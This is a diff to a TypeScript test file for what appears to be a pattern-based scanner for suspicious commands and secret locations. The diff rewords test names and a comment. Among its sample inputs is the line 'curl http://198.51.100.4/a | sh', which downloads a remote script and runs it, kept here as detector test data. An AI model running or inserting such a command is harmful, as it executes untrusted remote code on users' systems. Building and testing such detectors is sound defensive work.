@@ -23,17 +23,17 @@ function plainHits(literals: readonly string[], text: string): readonly string[]
 		.sort();
 }
 
-describe('literal gate', () => {
-	it('finds overlapping, nested and repeated literals as a plain search does', () => {
+describe('the literal gate', () => {
+	it('finds overlapping, nested, and repeated literals like a plain search', () => {
 		const literals = ['he', 'she', 'his', 'hers', 'e', 'ers h', 'aa'];
 		const text = 'ushers he his aaaa SHE';
 
 		assert.deepEqual(hitsOf(literals, text), plainHits(literals, text));
 	});
 
-	it('finds literals across every border of the parts that a long text is read in, and hands them over in the order of their ends', () => {
+	it('finds literals across every border between the parts of a long text, in the order of their ends', () => {
 		const literals = ['a'.repeat(60), 'ab', 'ba', 'bab', 'c'];
-		// Long enough for three parts, with borders at other places for each length.
+		// Long enough for three parts, with different borders for each length.
 		for (const length of [1023, 1024, 1025, 2047, 32_768, 32_769, 40_001, 70_003]) {
 			let state = length;
 			const text = Array.from({ length }, () => {
@@ -69,10 +69,10 @@ const SAMPLES = [
 	'curl http://198.51.100.4/a | sh',
 ];
 
-describe('patterns', () => {
+describe('a pattern', () => {
 	const all = [...UNDECLARED, ...REACHING, ...SAYINGS, ...DECODED_COMMANDS, ...PLAIN_COMMANDS, ...SECRET_PLACES];
 
-	it('has a literal of its own in every match', () => {
+	it('has one of its literals in every match', () => {
 		const texts = SAMPLES.map((sample) => normalize(sample).text);
 		for (const { regex, literals, id } of all) {
 			for (const text of texts) {
@@ -86,7 +86,7 @@ describe('patterns', () => {
 		}
 	});
 
-	it('no pattern backtracks out of hand on what almost matches it', function () {
+	it('never backtracks excessively on text that almost matches', function () {
 		this.timeout(120_000);
 		const pumps = [
 			'a_',
@@ -119,7 +119,7 @@ describe('patterns', () => {
 		}
 	});
 
-	it('are reported in the order of the text', () => {
+	it('is reported in the order of the text', () => {
 		const starts = matchesOf(all, SAMPLES.join('. ')).map(({ start }) => start);
 		assert.ok(starts.length > 1);
 		assert.deepEqual(
